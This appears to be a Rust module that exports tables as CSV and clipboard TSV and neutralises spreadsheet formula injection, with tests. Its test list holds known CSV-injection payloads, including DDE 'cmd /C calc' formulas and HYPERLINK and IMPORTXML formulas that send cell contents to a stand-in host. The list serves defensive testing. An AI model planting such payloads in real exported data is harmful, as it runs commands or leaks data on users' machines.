//! Tables that leave the program, as CSV for a file and as tab-separated words for the clipboard.

use std::borrow::Cow;

use crate::review::FORMULA_SIGNS;

/// A cell of a [`Table`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Cell {
    Words(String),
    Count(usize),
}

/// Named columns and rows of cells.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Table {
    /// For a title or a file name; not part of the CSV.
    pub name: String,
    pub columns: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

impl From<String> for Cell {
    fn from(words: String) -> Self {
        Self::Words(words)
    }
}

impl From<&str> for Cell {
    fn from(words: &str) -> Self {
        Self::Words(words.to_owned())
    }
}

impl From<usize> for Cell {
    fn from(count: usize) -> Self {
        Self::Count(count)
    }
}

impl Table {
    /// The table as RFC 4180 has it: a line of column names, lines ended by CR LF, UTF-8 without a byte order mark.
    /// Words that a spreadsheet would take for a formula get an apostrophe before them.
    pub fn to_csv(&self) -> String {
        let ends = csv::Terminator::CRLF;
        let mut writer = csv::WriterBuilder::new().terminator(ends).flexible(true).from_writer(Vec::new());
        for line in self.lines() {
            // Memory takes every byte.
            let _infallible = writer.write_record(line.map(|cell| cell.into_owned().into_bytes()));
        }
        writer.into_inner().map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).unwrap_or_default()
    }

    /// The table as spreadsheets take it from the clipboard: cells parted by tabs, lines by line feeds. White space
    /// in a cell becomes spaces; formulas are made harmless as in [`Table::to_csv`].
    pub fn to_tsv(&self) -> String {
        let mut written = String::new();
        for line in self.lines() {
            for (at, cell) in line.enumerate() {
                if at > 0 {
                    written.push('\t');
                }
                written.push_str(&on_one_line(&cell));
            }
            written.push('\n');
        }
        written
    }

    /// The column names, then the rows.
    fn lines(&self) -> impl Iterator<Item = Box<dyn Iterator<Item = Cow<'_, str>> + '_>> {
        type Line<'a> = Box<dyn Iterator<Item = Cow<'a, str>> + 'a>;
        let names: Line<'_> = Box::new(self.columns.iter().map(|name| harmless(name)));
        let rows = self.rows.iter().map(|row| {
            let cells: Line<'_> = Box::new(row.iter().map(|cell| match cell {
                Cell::Words(words) => harmless(words),
                Cell::Count(count) => count.to_string().into(),
            }));
            cells
        });
        std::iter::once(names).chain(rows)
    }
}

/// Keeps a spreadsheet from running words as a formula, after the advice of OWASP on CSV injection and ASVS 5.0,
/// 1.2.10: an apostrophe stands before what would begin one. A spreadsheet may also part cells by another sign than
/// the file does, whatever is quoted; so words behind such a sign are treated as those of a cell.
fn harmless(words: &str) -> Cow<'_, str> {
    let mut written = String::new();
    if words.starts_with(['\t', '\r', '\n', '\0']) {
        written.push('\'');
    }
    let mut begins = true;
    for c in words.chars() {
        if begins && FORMULA_SIGNS.contains(&c) {
            written.push('\'');
        }
        written.push(c);
        // White space and quotation marks may be gone before a cell is looked at.
        begins =
            matches!(c, ';' | '\t' | '\r' | '\n') || begins && (c == '"' || c == '\0' || c.is_whitespace());
    }
    if written.len() == words.len() { words.into() } else { written.into() }
}

fn on_one_line(words: &str) -> String {
    let line = words.replace("\r\n", " ").replace(|c: char| c.is_whitespace() || c.is_control(), " ");
    // A spreadsheet reads a cell that begins with a quotation mark up to the next one, over tabs and lines.
    if line.starts_with('"') { format!("\"{}\"", line.replace('"', "\"\"")) } else { line }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn table(rows: Vec<Vec<Cell>>) -> Table {
        Table { name: "Marks".into(), columns: vec!["Article".into(), "=Marks".into()], rows }
    }

    #[test]
    fn csv_is_quoted_where_needed_and_ends_lines_by_the_book() {
        let table = table(vec![
            vec!["Article 17, \"Scope\"".into(), 3.into()],
            vec!["two\nlines".into(), 0.into()],
            vec!["حقوق 人权".into(), "-1".into()],
        ]);
        let expected =
            "Article,'=Marks\r\n\"Article 17, \"\"Scope\"\"\",3\r\n\"two\nlines\",0\r\nحقوق 人权,'-1\r\n";
        assert_eq!(table.to_csv(), expected);
        let expected = "Article\t'=Marks\nArticle 17, \"Scope\"\t3\ntwo lines\t0\nحقوق 人权\t'-1\n";
        assert_eq!(table.to_tsv(), expected);
    }

    #[test]
    fn no_cell_swallows_the_next_on_the_clipboard() {
        let table = table(vec![vec!["\"quoted\" words".into(), "a\tb\r\nc".into()]]);
        assert_eq!(table.to_tsv().lines().nth(1), Some("\"\"\"quoted\"\" words\"\ta b c"));
    }

    /// Every cell of a CSV file as a spreadsheet reads it that parts cells by this sign, whatever stands between.
    fn cells(csv: &str, sign: u8) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new();
        let reader = reader.delimiter(sign).has_headers(false).flexible(true);
        let rows = reader.from_reader(csv.as_bytes()).into_records().map(Result::unwrap);
        rows.map(|row| row.iter().map(str::to_owned).collect()).collect()
    }

    /// What the OWASP page on CSV injection and its readers try.
    const TRIED: &[&str] = &[
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://a.example?leak=\"&A1,\"see\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "a;=1+1",
        "a\t=1+1",
        "\";=1+1",
        "\",=1+1",
        "',=1+1",
        "a\"\";=1+1;\"",
        "=1+1\",\"=2",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=IMPORTXML(CONCAT(\"https://a.example/\",A1),\"//a\")",
        "-1",
        "''=1",
    ];

    fn no_formula(rows: &[Vec<String>]) {
        let made = |row: &Vec<String>| row.iter().map(|words| Cell::from(words.as_str())).collect();
        let table = table(rows.iter().map(made).collect());
        let (csv, tsv) = (table.to_csv(), table.to_tsv());
        for (written, sign) in [(&csv, b','), (&csv, b';'), (&csv, b'\t'), (&tsv, b'\t'), (&tsv, b';')] {
            for cell in cells(written, sign).iter().flatten() {
                let seen = cell.trim_start_matches(|c: char| c == '"' || c == '\0' || c.is_whitespace());
                assert!(!seen.starts_with(FORMULA_SIGNS), "{cell:?} in {written:?} parted by {sign}");
                assert!(
                    sign != b',' || !cell.starts_with(['\t', '\r', '\n', '\0']),
                    "{cell:?} in {written:?}"
                );
            }
        }
    }

    #[test]
    fn nothing_that_is_known_to_be_tried_becomes_a_formula() {
        for first in TRIED {
            for second in TRIED {
                no_formula(&[vec![(*first).to_owned(), (*second).to_owned()], vec![(*second).to_owned()]]);
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 4_000, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn no_cell_is_a_formula_whatever_parts_cells(rows in prop::collection::vec(prop::collection::vec("[=+@\t\r\n\0a\"',; é＝＠|-]{0,7}", 1..4), 1..4)) {
            no_formula(&rows);
        }

        #[test]
        fn csv_is_read_back_and_holds_no_formula(rows in prop::collection::vec(prop::collection::vec("[=+@\t\r\na\"',;é-]{0,6}", 2), 0..5)) {
            let cells = |row: &Vec<String>| row.iter().map(|words| Cell::from(words.as_str())).collect();
            let table = table(rows.iter().map(cells).collect());
            let written = table.to_csv();
            let mut reader = csv::Reader::from_reader(written.as_bytes());
            let read: Vec<Vec<String>> =
                reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
            prop_assert_eq!(read.len(), rows.len());
            for (read, words) in read.iter().flatten().zip(rows.iter().flatten()) {
                prop_assert!(!read.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']));
                prop_assert_eq!(read.replace('\'', ""), words.replace('\'', ""), "more than apostrophes was added");
            }
            let tsv = table.to_tsv();
            prop_assert_eq!(tsv.lines().count(), rows.len() + 1);
            prop_assert!(tsv.lines().all(|line| line.split('\t').count() == 2));
        }
    }

    #[test]
    fn words_that_begin_no_formula_are_left_as_they_are() {
        for words in
            ["1-2=3", "a@b.example", "Article 17 + 18", "a, -b", "'=1 \"+2\"", "Each State = a Party"]
        {
            assert_eq!(harmless(words), words);
        }
        // Only what stands where a cell may begin.
        assert_eq!(harmless("a-b;-c=d; \"@e"), "a-b;'-c=d; \"'@e");
    }

    #[test]
    fn on_the_clipboard_nothing_in_a_cell_ends_a_line() {
        let table = table(vec![vec!["a\u{2028}b\u{85}c\u{0}d\u{1b}e\u{b}f".into(), 1.into()]]);
        assert_eq!(table.to_tsv().lines().nth(1), Some("a b c d e f\t1"));
    }
}
